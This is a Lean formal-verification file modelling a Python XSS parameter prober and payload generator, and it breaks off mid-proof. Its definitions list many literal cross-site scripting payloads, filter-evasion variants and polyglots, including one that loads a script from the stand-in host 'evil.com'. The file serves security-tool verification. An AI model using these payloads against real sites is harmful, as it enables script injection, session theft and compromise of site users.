import Mathlib

/-!
Verification development for the xssdynagen parameter prober / payload
generator (src/xssdynagen.py).

The Python source is shallowly embedded: network requests are modelled by
explicit response values and by boolean reflection oracles, mutable state is
passed explicitly, Python exceptions become `Option`/`Except` values, and the
asyncio batching (which only bounds how many requests are in flight at once)
is kept as explicit chunking of the probed character lists.  Character sets
are modelled as `List Char` with membership semantics; Python dicts keyed by
characters or strings are association lists.

The file is organised as: all definitions first, then all theorems.
-/

namespace Xssdynagen

/-! ### Generic executable list utilities used by the embedding -/

/-- Splits a list into chunks, accumulating the current chunk in reverse in
`acc` with `k` remaining slots.  Structural recursion so that the kernel can
evaluate it (used to model `chars[i:i + batch_size]` slicing with
`batch_size = 20`). -/
def chunksGo (hay : List Char) (acc : List Char) (k : Nat) : List (List Char) :=
  match hay, k with
  | [], _ => if acc.isEmpty then [] else [acc.reverse]
  | c :: cs, Nat.succ k => chunksGo cs (c :: acc) k
  | c :: cs, 0 => acc.reverse :: chunksGo cs [c] 19

/-- The batches of 20 characters used by `test_chars_batch` and by the full
character sweep of `analyze_parameter` (`batch_size = 20` in the source). -/
def chunks20 (l : List Char) : List (List Char) :=
  chunksGo l [] 20

/-- Boolean test that `pre` starts `l` (character-by-character equality). -/
def listStartsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && listStartsWith as bs

/-- Boolean substring containment over character lists; models Python's
`needle in haystack` for strings. -/
def containsSub (needle : List Char) : List Char → Bool
  | [] => listStartsWith needle []
  | c :: t => listStartsWith needle (c :: t) || containsSub needle t

/-- Code-point lexicographic comparison of character lists; models how Python
compares strings (and hence how `sorted` orders the output payloads). -/
def charListLe : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => if a < b then true else if b < a then false else charListLe as bs

/-- Code-point lexicographic `<=` on strings, as used by Python's `sorted`. -/
def strLe (s t : String) : Bool :=
  charListLe s.data t.data

/-- The sorting relation on strings used to model Python's `sorted`. -/
def pyStrOrder (s t : String) : Prop :=
  strLe s t = true

instance : DecidableRel pyStrOrder := fun s t =>
  inferInstanceAs (Decidable (strLe s t = true))

/-! ### `CacheManager` (src lines 35-56)

The dict `self.cache` is an association list from keys to
`(result, timestamp)`; `time.time()` is passed in explicitly as `now`.
`get` both returns a value and (on a stale hit) deletes the entry, so it
returns the updated manager alongside the result. -/

/-- Embeds `CacheManager`: a TTL cache from string keys to boolean probe
outcomes, with the insertion timestamp stored per entry. -/
structure CacheManager where
  cache : List (String × Bool × Int)
  ttl : Int

/-- The default constructor `CacheManager(ttl=300)`: empty cache,
TTL 300 seconds. -/
def CacheManager.init : CacheManager :=
  ⟨[], 300⟩

/-- Embeds `CacheManager.get`: a hit within the TTL returns the stored
result; a stale hit deletes the entry (`del self.cache[key]`) and behaves as
absent; a miss returns `none`. -/
def CacheManager.get (m : CacheManager) (now : Int) (key : String) :
    Option Bool × CacheManager :=
  match m.cache.find? (fun e => e.1 == key) with
  | some e =>
    if now - e.2.2 ≤ m.ttl then (some e.2.1, m)
    else (none, ⟨m.cache.filter (fun x => !(x.1 == key)), m.ttl⟩)
  | none => (none, m)

/-- Embeds `CacheManager.set`: `self.cache[key] = (value, time.time())`
(dict assignment replaces any previous entry for the key). -/
def CacheManager.set (m : CacheManager) (now : Int) (key : String) (value : Bool) :
    CacheManager :=
  ⟨(key, value, now) :: m.cache.filter (fun x => !(x.1 == key)), m.ttl⟩

/-! ### The reflection probe (`XSSParamAnalyzer.test_single_char`)

An HTTP exchange is modelled by its outcome: `none` stands for any exception
or timeout raised while sending the request or reading the body, and
`some (status, body)` for a completed response. -/

/-- Embeds `XSSParamAnalyzer.test_single_char` (src lines 745-758): the probe
sends the character doubled as the parameter value and succeeds only when the
status is exactly 200 and the doubled character occurs in the body.  The
`except Exception: return False` branch is the `none` case. -/
def test_single_char (resp : Option (Nat × List Char)) (char : Char) : Bool :=
  match resp with
  | none => false
  | some (status, content) =>
    if status ≠ 200 then false
    else containsSub [char, char] content

/-- The per-character reflection oracle induced by a server that answers the
single-character probes with status `status` and body `body`. -/
def serverOracle (status : Nat) (body : List Char) (char : Char) : Bool :=
  test_single_char (some (status, body)) char

/-! ### `test_chars_batch` and the quick probe sequences

`test_chars_batch` (src lines 979-1015) iterates over the *characters* of its
`chars` argument in chunks of 20, probes each character individually (value =
the character doubled, same check as `test_single_char`), and returns true as
soon as a chunk contains a reflected character.  The fresh `CacheManager`
created per call only memoises the deterministic per-character oracle inside
one call, and the chunking only bounds the number of concurrent requests, so
the embedding keeps the chunk structure and takes the per-character oracle as
a parameter. -/

/-- Embeds `XSSParamAnalyzer.test_chars_batch`. -/
def test_chars_batch (oracle : Char → Bool) (chars : String) : Bool :=
  (chunks20 chars.data).any fun batch => batch.any oracle

/-- The ordered variant list of `quick_test_scripts` (src lines 761-778). -/
def script_test_payloads : List String :=
  ["<script>",
   "<SCRIPT>",
   "<ScRiPt>",
   "<%73cript>",
   "<scr<script>ipt>",
   "<svg/script>",
   "<<script>>",
   "</script>",
   "<script/>",
   "\\x3Cscript\\x3E",
   "&lt;script&gt;",
   "&#x3C;script&#x3E;",
   "<img src=x onerror=",
   "<svg onload=",
   "<iframe onload=",
   "<video onloadstart="]

/-- The ordered variant list of `quick_test_events` (src lines 786-804). -/
def event_test_payloads : List String :=
  ["onmouseover=",
   "onclick=",
   "onerror=",
   "onload=",
   "onmouseenter=",
   "onmouseleave=",
   "onfocus=",
   "onblur=",
   "onkeyup=",
   "onkeydown=",
   "ondblclick=",
   "oncontextmenu=",
   "ondrag=",
   "ondragend=",
   "onkeypress=",
   "onchange=",
   "onsubmit="]

/-- Embeds `XSSParamAnalyzer.quick_test_scripts` (src lines 760-783): returns
true as soon as `test_chars_batch` accepts one of the variants. -/
def quick_test_scripts (oracle : Char → Bool) : Bool :=
  script_test_payloads.any fun payload => test_chars_batch oracle payload

/-- Embeds `XSSParamAnalyzer.quick_test_events` (src lines 785-809). -/
def quick_test_events (oracle : Char → Bool) : Bool :=
  event_test_payloads.any fun payload => test_chars_batch oracle payload

/-- Modelled from the spec, for the refinement comparison of claim C1 only:
a variant counts as "reflected verbatim" when the whole variant string occurs
in the body of a success (status 200) response. -/
def specReflectedVerbatim (status : Nat) (body : List Char) (s : String) : Bool :=
  status == 200 && containsSub s.data body

/-- Modelled from the spec, for the refinement comparison of claim C1 only:
the spec's reading of `quickTestScripts` — true iff some variant string is
reflected verbatim. -/
def specQuickTestScripts (status : Nat) (body : List Char) : Bool :=
  script_test_payloads.any (specReflectedVerbatim status body)

/-- Modelled from the spec, for the refinement comparison of claim C1 only:
the spec's reading of `quickTestEvents`. -/
def specQuickTestEvents (status : Nat) (body : List Char) : Bool :=
  event_test_payloads.any (specReflectedVerbatim status body)

/-! ### `quick_test_length` (src lines 811-821)

The `while left <= right` loop is embedded with a fuel argument so that the
kernel can evaluate it; every iteration shrinks `right + 1 - left` by at
least one, so fuel `4991 = 5000 + 1 - 10` can never run out when starting
from `left = 10, right = 5000` (the lemmas below only ever need
`(right + 1 - left).toNat ≤ fuel`).  `acc mid` stands for
`await self.test_chars_batch(url, param, 'A' * mid)`; `(left + right) / 2`
is floor division exactly as in Python, because both operands stay
non-negative. -/

/-- The `while left <= right` loop body of `quick_test_length`. -/
def quick_test_length_loop (acc : Int → Bool) : Nat → Int → Int → Int
  | 0, _, right => right
  | Nat.succ fuel, left, right =>
    if left ≤ right then
      if acc ((left + right) / 2) then
        quick_test_length_loop acc fuel ((left + right) / 2 + 1) right
      else
        quick_test_length_loop acc fuel left ((left + right) / 2 - 1)
    else right

/-- Embeds `XSSParamAnalyzer.quick_test_length`: binary search over
`[10, 5000]`, returning `right` if positive, else `None`. -/
def quick_test_length (acc : Int → Bool) : Option Int :=
  let right := quick_test_length_loop acc 4991 10 5000
  if right > 0 then some right else none

/-! ### `ParamAnalysis` (src lines 128-140) -/

/-- Embeds the `ParamAnalysis` dataclass.  The Python sets `allowed_chars`
and `blocked_chars` are lists used with membership semantics; `max_length`
is `Optional[int]`. -/
structure ParamAnalysis where
  param : String
  url : String
  allowed_chars : List Char
  blocked_chars : List Char
  max_length : Option Int
  allows_spaces : Bool
  allows_quotes : Bool
  allows_angles : Bool
  allows_parens : Bool
  allows_scripts : Bool
  allows_events : Bool
deriving DecidableEq

/-- Embeds `all(c in analysis.allowed_chars for c in s)`: every character of
the literal fragment `s` is individually allowed. -/
def allAllowed (a : ParamAnalysis) (s : String) : Bool :=
  s.data.all fun c => a.allowed_chars.contains c

/-! ### `get_predefined_payloads` (src lines 823-873)

Each family below is the literal payload list of one `payloads.update(...)`
call; the braces appearing inside CSS/JS payload text are written with the
escapes `\x7b` and `\x7d`. -/

/-- The script/tag family, gated on
`allows_angles and allows_scripts and '=' in allowed and '/' in allowed`
(src lines 828-842).  The list keeps the source's duplicate
`<svg/onload=prompt()>` entry; set semantics collapse it. -/
def predefined_script_payloads : List String :=
  ["<script>alert(1)</script>",
   "<script>prompt(1)</script>",
   "<script>confirm(1)</script>",
   "<svg onload=alert(1)>",
   "<svg/onload=prompt()>",
   "<svg/onload=alert&sol;**&sol;(3)>",
   "<svg/onload=alert/*1337*/(1)>",
   "<svg/onload=prompt()>",
   "<svg/onload=alert//&NewLine;(2)>",
   "<svg/onload=alert/&#42;&#42;/(4)>",
   "<svg/onload=alert&#x2F;**&#47;(5)>",
   "<body onload=alert(1)>",
   "<iframe onload=alert(1)>"]

/-- The quote-gated subfamily of the script/tag family (src lines 844-854). -/
def predefined_script_quote_payloads : List String :=
  ["<script type=\"text/javascript\">javascript:alert(1);</script>",
   "\"><script>prompt()</script>",
   "\"><img src=x onerror=prompt()>",
   "\"><iMg SrC=x onError=prompt()>",
   "<img src=\"x\" onerror=\"alert(1)\">",
   "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert()//>",
   "'\"--></style></script><svg onload=alert(1)//",
   "\"'--></style></script><img src=x onerror=alert(1)>",
   "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=alert(1)//>"]

/-- The encoded/entity-escaped family added when `not allows_angles`
(src lines 855-863). -/
def angle_blocked_payloads : List String :=
  ["javascript:alert(1)",
   "&lt;script&gt;alert(1)&lt;/script&gt;",
   "\\u003Cscript\\u003Ealert(1)\\u003C/script\\u003E",
   "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
   "%3Cscript%3Ealert(1)%3C/script%3E",
   "\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E"]

/-- The CSS-injection family added when `allows_angles and allows_quotes`
(src lines 864-872). -/
def angle_quote_css_payloads : List String :=
  ["<style>@import 'javascript:alert(1)';</style>",
   "<link rel=stylesheet href=javascript:alert(1)>",
   "<div style='background-image: url(javascript:alert(1))'>",
   "<style>*[\x7b\x7d*\x7bbackground:url(javascript:alert(1))\x7d]\x7bcolor: red\x7d;</style>",
   "<div style=\"background:url(javascript:alert(1))\">",
   "<style>@keyframes x\x7b\x7d</style><div style=\"animation-name:x\" onanimationend=\"alert(1)\"></div>"]

/-- Embeds `XSSParamAnalyzer.get_predefined_payloads` (src lines 823-873);
list concatenation models `set.update`, so only membership matters. -/
def get_predefined_payloads (a : ParamAnalysis) : List String :=
  (if a.allows_angles && a.allows_scripts &&
      a.allowed_chars.contains '=' && a.allowed_chars.contains '/' then
    predefined_script_payloads ++
      (if a.allows_quotes then predefined_script_quote_payloads else [])
  else []) ++
  (if !a.allows_angles then angle_blocked_payloads else []) ++
  (if a.allows_angles && a.allows_quotes then angle_quote_css_payloads else [])

/-! ### `generate_dynamic_payloads` (src lines 875-950) -/

/-- The list `base_tags` (src line 878). -/
def base_tags : List String :=
  ["script", "img", "svg", "iframe", "video", "audio", "body"]

/-- The list `event_handlers` (src line 879). -/
def event_handlers : List String :=
  ["onload", "onerror", "onmouseover", "onclick", "onmouseenter"]

/-- The list `js_functions` (src line 880). -/
def js_functions : List String :=
  ["alert", "prompt", "confirm", "eval", "atob"]

/-- Embeds `tag_mutations.get(tag, [tag])` (src lines 881-885, 888); the third
`script` mutation uses the U+3008/U+3009 angle brackets of the source. -/
def tag_mutations (tag : String) : List String :=
  if tag = "script" then ["ScRiPt", "scr\x00ipt", "〈script〉"]
  else if tag = "img" then ["ImG", "i\x00mg"]
  else if tag = "svg" then ["SvG", "s\x00vg"]
  else [tag]

/-- Embeds `event_mutations.get(event, [event])` (src lines 907-910, 914); the
plain `onload`/`onerror` spellings are *not* in their own mutation lists. -/
def event_mutations (event : String) : List String :=
  if event = "onload" then ["OnLoad", "ONLOAD", "on\x00load"]
  else if event = "onerror" then ["OnError", "ONERROR", "on\x00error"]
  else [event]

/-- The three comment-obfuscated payload shapes built from a tag mutation and
a JS function name (src lines 894-898). -/
def commentPayloads (mt func : String) : List String :=
  ["<" ++ mt ++ ">/**/" ++ func ++ "(1)/**/",
   "<" ++ mt ++ ">/*-->" ++ func ++ "(1)/**/",
   "<" ++ mt ++ ">//" ++ func ++ "(1)"]

/-- The two null-byte-spliced payload shapes built from the *original* tag
and a JS function name (src lines 902-905). -/
def nullPayloads (tag func : String) : List String :=
  ["<" ++ tag ++ "\x00>" ++ func ++ "(1)",
   "<" ++ tag ++ ">\x00" ++ func ++ "(1)"]

/-- The three event-attribute payload shapes for a tag and an event-handler
variant (src lines 917-922), before their individual gates. -/
def eventShapes (tag ev : String) : List String :=
  ["<" ++ tag ++ " data-" ++ ev ++ "=\"alert(1)\">",
   "<" ++ tag ++ " " ++ ev ++ "=javascript:alert(1)>",
   "<" ++ tag ++ " " ++ ev ++ "=&quot;alert(1)&quot;>"]

/-- The gated selection among `eventShapes` (src lines 917-922): the quoted
`data-` form needs `allows_quotes`, the `javascript:` form needs `':'`
allowed, the entity form needs `'&'` and `';'` allowed. -/
def eventPayloads (a : ParamAnalysis) (tag ev : String) : List String :=
  (if a.allows_quotes then ["<" ++ tag ++ " data-" ++ ev ++ "=\"alert(1)\">"] else []) ++
  (if a.allowed_chars.contains ':' then
    ["<" ++ tag ++ " " ++ ev ++ "=javascript:alert(1)>"] else []) ++
  (if a.allowed_chars.contains '&' && a.allowed_chars.contains ';' then
    ["<" ++ tag ++ " " ++ ev ++ "=&quot;alert(1)&quot;>"] else [])

/-- The tags iterated by the event-attribute loop (src line 911). -/
def event_tags : List String :=
  ["img", "svg", "iframe"]

/-- The tag/function part of the dynamic generator (src lines 886-905):
per-character gates on the tag, the mutation and the function name, plus the
`'*','/'` gate for comment payloads and the null-byte gate for spliced
payloads. -/
def tagContentBlock (a : ParamAnalysis) : List String :=
  base_tags.flatMap fun tag =>
    if allAllowed a tag then
      (tag_mutations tag).flatMap fun mt =>
        if allAllowed a mt then
          (if a.allowed_chars.contains '*' && a.allowed_chars.contains '/' then
            js_functions.flatMap fun func =>
              if allAllowed a func then commentPayloads mt func else []
          else []) ++
          (if a.allowed_chars.contains '\x00' then
            js_functions.flatMap fun func =>
              if allAllowed a func then nullPayloads tag func else []
          else [])
        else []
    else []

/-- The event-attribute part of the dynamic generator (src lines 906-922),
gated on `'='` being allowed. -/
def eventAttrBlock (a : ParamAnalysis) : List String :=
  if a.allowed_chars.contains '=' then
    event_tags.flatMap fun tag =>
      if allAllowed a tag then
        event_handlers.flatMap fun event =>
          (event_mutations event).flatMap fun ev =>
            if allAllowed a ev then eventPayloads a tag ev else []
      else []
  else []

/-- The list `dom_evasions` (src lines 924-932); each string is emitted only under a
whole-string allowed-characters check.  Literal braces are `\x7b`/`\x7d`. -/
def dom_evasions : List String :=
  ["<script>eval(atob(`YWxlcnQoMSk=`))</script>",
   "<script>[].filter.constructor('alert(1)')()</script>",
   "<script>setTimeout`alert\\x28document.domain\\x29`</script>",
   "<script>Object.assign(window,\x7balert:eval\x7d)('1')</script>",
   "<script>new Function\\`alert\\`1\\`\\`</script>",
   "<script>with(document)body.appendChild(createElement`script`).src='//evil.com'</script>",
   "<script>eval.call`$\x7b'alert(1)'\x7d`</script>"]

/-- The list `proto_evasions` (src lines 937-945); each string is emitted only under a
whole-string allowed-characters check. -/
def proto_evasions : List String :=
  ["javascript:void(`alert(1)`)",
   "javascript:(alert)(1)",
   "javascript:new Function\\`alert\\`1\\`\\`",
   "javascript:this",
   "javascript:[][filter][constructor]('alert(1)')()",
   "javascript:alert?.()?.['']",
   "javascript:new%20Function\\`alert\\`1\\`\\`",
   "javascript:(?=alert)w=1,alert(w)"]

/-- Embeds `XSSParamAnalyzer.generate_dynamic_payloads` (src lines 875-950):
the tag/event blocks behind the `allows_angles and '<' in allowed and '>' in
allowed` gate, the DOM-evasion family behind `allows_angles and
allows_scripts`, and the prototype-evasion family behind a per-character
check of the literal `javascript:`. -/
def generate_dynamic_payloads (a : ParamAnalysis) : List String :=
  (if a.allows_angles && a.allowed_chars.contains '<' && a.allowed_chars.contains '>' then
    tagContentBlock a ++ eventAttrBlock a
  else []) ++
  (if a.allows_angles && a.allows_scripts then
    dom_evasions.filter fun evasion => allAllowed a evasion
  else []) ++
  (if allAllowed a "javascript:" then
    proto_evasions.filter fun evasion => allAllowed a evasion
  else [])

/-! ### `generate_payloads` (src lines 952-966) and the output pipeline -/

/-- Removal of leading and trailing whitespace from a character list; models
Python's `str.strip()` (the payload strings under consideration contain none
of the additional Unicode whitespace Python also strips). -/
def pyStripList (l : List Char) : List Char :=
  (((l.dropWhile Char.isWhitespace).reverse).dropWhile Char.isWhitespace).reverse

/-- Embeds `payload.replace('\n', '').replace('\r', '').strip()` (src line 1163):
replacing a single character by the empty string is a filter. -/
def stripPayload (s : String) : String :=
  String.mk (pyStripList ((s.data.filter fun c => c ≠ '\n').filter fun c => c ≠ '\r'))

/-- Embeds `XSSParamAnalyzer.generate_payloads` (src lines 952-966): union of
the predefined and dynamic families, then the truthy `max_length` filter,
then the drop of whitespace-only payloads and of payloads containing a
blocked character; `list(final_payloads)` is modelled by `dedup`. -/
def generate_payloads (a : ParamAnalysis) : List String :=
  let all_payloads := get_predefined_payloads a ++ generate_dynamic_payloads a
  let length_filtered :=
    match a.max_length with
    | some n =>
      if n ≠ 0 then all_payloads.filter (fun (p : String) => (p.length : Int) ≤ n)
      else all_payloads
    | none => all_payloads
  (length_filtered.filter fun (payload : String) =>
    !(pyStripList payload.data).isEmpty &&
      !(payload.data.any fun char => a.blocked_chars.contains char)).dedup

/-! ### `analyze_parameter` (src lines 1017-1076)

The parameter's reflection behaviour is the per-character oracle
`oracle : Char → Bool` (the outcome of `test_single_char` for this
url/param).  The character groups are an association list in file order.
Looking up the `'basic'` group models `self.char_groups['basic']`; a missing
group raises `KeyError` in Python, which the embedding returns as `none`.
The per-batch `results.update(dict(zip(batch, batch_results)))` is a dict
update keyed by the batch characters. -/

/-- Association-list lookup modelling `self.char_groups[name]`. -/
def lookupGroup (groups : List (String × List Char)) (name : String) :
    Option (List Char) :=
  (groups.find? fun g => g.1 == name).map fun g => g.2

/-- Dict assignment `results[key] = val` on an association list. -/
def dictSet (res : List (Char × Bool)) (key : Char) (val : Bool) :
    List (Char × Bool) :=
  if res.any fun e => e.1 == key then
    res.map fun e => if e.1 == key then (key, val) else e
  else res ++ [(key, val)]

/-- Embeds `results.update(dict(zip(batch, batch_results)))`: assign every pair in
order. -/
def dictUpdate (res : List (Char × Bool)) (kvs : List (Char × Bool)) :
    List (Char × Bool) :=
  kvs.foldl (fun r kv => dictSet r kv.1 kv.2) res

/-- The accumulated `results` dict of the full character sweep (src lines
1046-1056): every group's characters are probed in batches of 20 and each
batch's outcomes are merged into the dict. -/
def sweepResults (groups : List (String × List Char)) (oracle : Char → Bool) :
    List (Char × Bool) :=
  groups.foldl
    (fun res g =>
      (chunks20 g.2).foldl
        (fun r batch => dictUpdate r (batch.map fun c => (c, oracle c))) res)
    []

/-- The short-circuit profile returned when the viability gate fails
(src lines 1032-1045): empty sets, no length, all booleans false. -/
def shortCircuitAnalysis (param url : String) : ParamAnalysis :=
  { param := param
    url := url
    allowed_chars := []
    blocked_chars := []
    max_length := none
    allows_spaces := false
    allows_quotes := false
    allows_angles := false
    allows_parens := false
    allows_scripts := false
    allows_events := false }

/-- Embeds `XSSParamAnalyzer.analyze_parameter` (src lines 1017-1076):
viability gate on the first 10 characters of the `basic` group, then the
full sweep, then `quick_test_scripts` / `quick_test_events` /
`quick_test_length` (whose `'A' * mid` probe goes through
`test_chars_batch`, i.e. probes the character `'A'` once per repetition),
then profile assembly.  `none` models the `KeyError` raised when the loaded
character groups have no `basic` entry. -/
def analyze_parameter (groups : List (String × List Char)) (oracle : Char → Bool)
    (url param : String) : Option ParamAnalysis :=
  match lookupGroup groups "basic" with
  | none => none
  | some basic =>
    if !((basic.take 10).any oracle) then
      some (shortCircuitAnalysis param url)
    else
      let results := sweepResults groups oracle
      let allowed_chars := (results.filter fun e => e.2).map fun e => e.1
      let blocked_chars := (results.filter fun e => !e.2).map fun e => e.1
      some
        { param := param
          url := url
          allowed_chars := allowed_chars
          blocked_chars := blocked_chars
          max_length := quick_test_length fun mid =>
            test_chars_batch oracle (String.mk (List.replicate mid.toNat 'A'))
          allows_spaces := allowed_chars.contains ' '
          allows_quotes := allowed_chars.contains '"' || allowed_chars.contains '\''
          allows_angles := allowed_chars.contains '<' && allowed_chars.contains '>'
          allows_parens := allowed_chars.contains '(' && allowed_chars.contains ')'
          allows_scripts := quick_test_scripts oracle
          allows_events := quick_test_events oracle }

/-- The characters the full sweep of `analyze_parameter` actually probes:
none when the `basic` lookup fails or the viability gate short-circuits,
otherwise every character of every group. -/
def sweep_probed (groups : List (String × List Char)) (oracle : Char → Bool) :
    List Char :=
  match lookupGroup groups "basic" with
  | none => []
  | some basic =>
    if !((basic.take 10).any oracle) then []
    else groups.flatMap fun g => g.2

/-! ### `analyze_url` (src lines 1078-1093) and the URL loop of
`process_urls` (src lines 1138-1144)

`analyze_parameter` can raise (for example the `KeyError` above, or failures
while creating the connector/session), so the per-parameter analysis step is
abstracted as `analyzeParam : String → Except Unit ParamAnalysis`.  The
single `try`/`except` of `analyze_url` wraps the whole parameter loop and
returns `{}` on any exception; the embedding mirrors that structure. -/

/-- The `for param in params` body of `analyze_url`: each parameter is
analysed in order, its payloads are kept when non-empty, and the first
exception aborts the whole loop. -/
def analyze_url_loop (analyzeParam : String → Except Unit ParamAnalysis) :
    List String → Except Unit (List (String × List String))
  | [] => Except.ok []
  | p :: ps =>
    match analyzeParam p with
    | Except.error e => Except.error e
    | Except.ok analysis =>
      match analyze_url_loop analyzeParam ps with
      | Except.error e => Except.error e
      | Except.ok rest =>
        let payloads := generate_payloads analysis
        Except.ok (if payloads.isEmpty then rest else (p, payloads) :: rest)

/-- Embeds `XSSParamAnalyzer.analyze_url` (src lines 1078-1093): the
`except Exception: return {}` branch discards everything the loop had
accumulated for this URL. -/
def analyze_url (analyzeParam : String → Except Unit ParamAnalysis)
    (params : List String) : List (String × List String) :=
  match analyze_url_loop analyzeParam params with
  | Except.ok results => results
  | Except.error _ => []

/-- The `for url in urls` accumulation of `process_urls` (src lines
1138-1144): each URL (given with its extracted parameter list) contributes
its `analyze_url` result when non-empty.  `analyzeParam u p` is the analysis
of parameter `p` of URL `u`. -/
def process_urls_results
    (analyzeParam : String → String → Except Unit ParamAnalysis)
    (urls : List (String × List String)) :
    List (String × List (String × List String)) :=
  match urls with
  | [] => []
  | (u, ps) :: rest =>
    let result := analyze_url (analyzeParam u) ps
    if result.isEmpty then process_urls_results analyzeParam rest
    else (u, result) :: process_urls_results analyzeParam rest

/-! ### The output file (src lines 1155-1166 and `remove_empty_lines`,
src lines 1095-1103) -/

/-- The lines written to the output file (src lines 1161-1165): the unique
payloads are sorted (Python's `sorted`, i.e. code-point lexicographic
order on the *original* strings), each is stripped of embedded `'\n'`/`'\r'`
and surrounding whitespace, and falsy (empty) results are skipped. -/
def output_lines (unique_payloads : List String) : List String :=
  ((List.insertionSort pyStrOrder unique_payloads).map stripPayload).filter
    fun s => s ≠ ""

/-- Embeds `remove_empty_lines` (src lines 1095-1103): keep the lines whose
`strip()` is non-empty. -/
def remove_empty_lines (lines : List String) : List String :=
  lines.filter fun l => !(pyStripList l.data).isEmpty

/-- The final content of the output file, one string per line. -/
def final_output (unique_payloads : List String) : List String :=
  remove_empty_lines (output_lines unique_payloads)

/-- Boolean cleanliness of a payload: non-empty, no embedded `'\n'`/`'\r'`,
and no leading or trailing whitespace.  Every payload either generator can
emit is clean (proved below), which is why stripping never reorders or
merges the sorted output in an actual run. -/
def cleanChars (l : List Char) : Bool :=
  !l.isEmpty &&
    (l.all fun x => !(x == '\n') && !(x == '\r')) &&
    !(l.headD ' ').isWhitespace && !(l.reverse.headD ' ').isWhitespace

/-- Every payload string either generator can possibly emit, whatever the
profile: the four predefined families plus every instantiation of the
dynamic shapes. -/
def payload_universe : List String :=
  predefined_script_payloads ++ predefined_script_quote_payloads ++
  angle_blocked_payloads ++ angle_quote_css_payloads ++
  (base_tags.flatMap fun tag =>
    (tag_mutations tag).flatMap fun mt =>
      js_functions.flatMap fun func =>
        commentPayloads mt func ++ nullPayloads tag func) ++
  (event_tags.flatMap fun tag =>
    event_handlers.flatMap fun event =>
      (event_mutations event).flatMap fun ev => eventShapes tag ev) ++
  dom_evasions ++ proto_evasions

/-- A concrete profile whose parameter reflects exactly the characters of
`img`, `onclick`, `=`, `:`, `<`, `>`: it drives the event-attribute branch of
the dynamic generator while leaving `'a'` (a character of the emitted literal
fragments `javascript:` and `alert`) blocked. -/
def sampleEventProfile : ParamAnalysis :=
  { param := "q"
    url := "http://u"
    allowed_chars := ['i', 'm', 'g', 'o', 'n', 'c', 'l', 'k', '=', ':', '<', '>']
    blocked_chars := []
    max_length := none
    allows_spaces := false
    allows_quotes := false
    allows_angles := true
    allows_parens := false
    allows_scripts := false
    allows_events := false }

/-! ## Theorems -/

/-! ### Helper lemmas on the list utilities -/

theorem chunksGo_flatten (hay : List Char) :
    ∀ (acc : List Char) (k : Nat), (chunksGo hay acc k).flatten = acc.reverse ++ hay := by
  induction hay with
  | nil =>
    intro acc k
    by_cases h : acc.isEmpty
    · simp [chunksGo, h, List.isEmpty_iff.mp h]
    · simp [chunksGo, h]
  | cons c cs ih =>
    intro acc k
    cases k with
    | zero => simp [chunksGo, ih]
    | succ k => simp [chunksGo, ih]

theorem chunks20_flatten (l : List Char) : (chunks20 l).flatten = l := by
  simp [chunks20, chunksGo_flatten]

theorem chunks20_any (p : Char → Bool) (l : List Char) :
    ((chunks20 l).any fun batch => batch.any p) = l.any p := by
  rw [← List.any_flatten, chunks20_flatten]

theorem listStartsWith_iff : ∀ (pre l : List Char), listStartsWith pre l = true ↔ pre <+: l
  | [], l => by simp [listStartsWith, List.nil_prefix]
  | a :: as, [] => by simp [listStartsWith]
  | a :: as, b :: bs => by
    simp [listStartsWith, listStartsWith_iff as bs, List.cons_prefix_cons]

theorem containsSub_iff (needle : List Char) :
    ∀ hay : List Char, containsSub needle hay = true ↔ needle <:+: hay := by
  intro hay
  induction hay with
  | nil => simp [containsSub, listStartsWith_iff]
  | cons c t ih =>
    simp [containsSub, listStartsWith_iff, ih, List.infix_cons_iff]

theorem charListLe_total : ∀ a b : List Char, charListLe a b = true ∨ charListLe b a = true
  | [], _ => Or.inl rfl
  | _ :: _, [] => Or.inr rfl
  | a :: as, b :: bs => by
    rcases lt_trichotomy a b with h | h | h
    · simp [charListLe, h]
    · subst h
      rcases charListLe_total as bs with h' | h' <;> simp [charListLe, h']
    · simp [charListLe, h, not_lt_of_lt h]

theorem charListLe_trans :
    ∀ a b c : List Char, charListLe a b = true → charListLe b c = true →
      charListLe a c = true
  | [], _, _, _, _ => rfl
  | a :: as, b :: bs, c :: cs, hab, hbc => by
    simp only [charListLe] at hab hbc ⊢
    rcases lt_trichotomy a b with h1 | h1 | h1
    · rcases lt_trichotomy b c with h2 | h2 | h2
      · simp [lt_trans h1 h2]
      · subst h2; simp [h1]
      · simp [h2, not_lt_of_lt h2] at hbc
    · subst h1
      rcases lt_trichotomy a c with h2 | h2 | h2
      · simp [h2]
      · subst h2
        simp [lt_irrefl] at hab hbc ⊢
        exact charListLe_trans as bs cs hab hbc
      · simp [h2, not_lt_of_lt h2] at hbc
    · simp [h1, not_lt_of_lt h1] at hab

theorem test_chars_batch_eq_any (oracle : Char → Bool) (chars : String) :
    test_chars_batch oracle chars = chars.data.any oracle := by
  simp [test_chars_batch, chunks20_any]

/-- Membership through a boolean guard producing the empty list. -/
theorem mem_guard {α : Type} {b : Bool} {l : List α} {x : α} :
    x ∈ (if b then l else []) ↔ b = true ∧ x ∈ l := by
  cases b <;> simp

/-- Permutation invariance of `List.any`. -/
theorem perm_any_eq {α : Type} {p : α → Bool} {l₁ l₂ : List α}
    (h : List.Perm l₁ l₂) : l₁.any p = l₂.any p := by
  rw [Bool.eq_iff_iff]
  simp only [List.any_eq_true]
  constructor
  · rintro ⟨a, ha, hp⟩
    exact ⟨a, h.mem_iff.mp ha, hp⟩
  · rintro ⟨a, ha, hp⟩
    exact ⟨a, h.mem_iff.mpr ha, hp⟩

/-! ### The `quick_test_length` loop -/

/-- If the oracle accepts exactly the values `≤ L`, the loop maintains the
invariant `left ≤ L + 1 ∧ L ≤ right` and exits with `right = L`. -/
theorem quick_test_length_loop_boundary (L : Int) (acc : Int → Bool)
    (hacc : ∀ n : Int, acc n = decide (n ≤ L)) :
    ∀ (fuel : Nat) (left right : Int), (right + 1 - left).toNat ≤ fuel →
      left ≤ L + 1 → L ≤ right → quick_test_length_loop acc fuel left right = L := by
  intro fuel
  induction fuel with
  | zero =>
    intro left right hfuel h1 h2
    simp only [quick_test_length_loop]
    omega
  | succ fuel ih =>
    intro left right hfuel h1 h2
